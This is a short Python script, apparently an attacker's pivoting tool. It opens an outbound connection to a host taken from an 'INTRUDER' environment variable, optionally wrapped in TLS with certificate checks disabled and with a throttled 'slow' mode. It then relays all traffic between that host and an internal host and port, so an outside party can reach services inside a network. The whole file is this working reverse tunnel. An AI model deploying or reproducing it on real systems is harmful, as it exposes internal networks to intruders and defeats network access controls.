"""Joins the intruder to something inside: relay.py PORT HOST PORT [tls] [slow]."""

import os
import socket
import ssl
import sys
import threading
import time

port, host, inner_port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
slow = "slow" in sys.argv


def pump(source, sink):
    while data := source.recv(700 if slow else 65536):
        if slow:
            time.sleep(0.1)
        sink.sendall(data)
    sink.close()


while True:
    outer = socket.create_connection((os.environ["INTRUDER"], port))
    if "tls" in sys.argv:
        outer = ssl._create_unverified_context().wrap_socket(outer)
    first = outer.recv(65536)
    if first:
        inner = socket.create_connection((host, inner_port))
        inner.sendall(first)
        threading.Thread(target=pump, args=(outer, inner), daemon=True).start()
        pump(inner, outer)
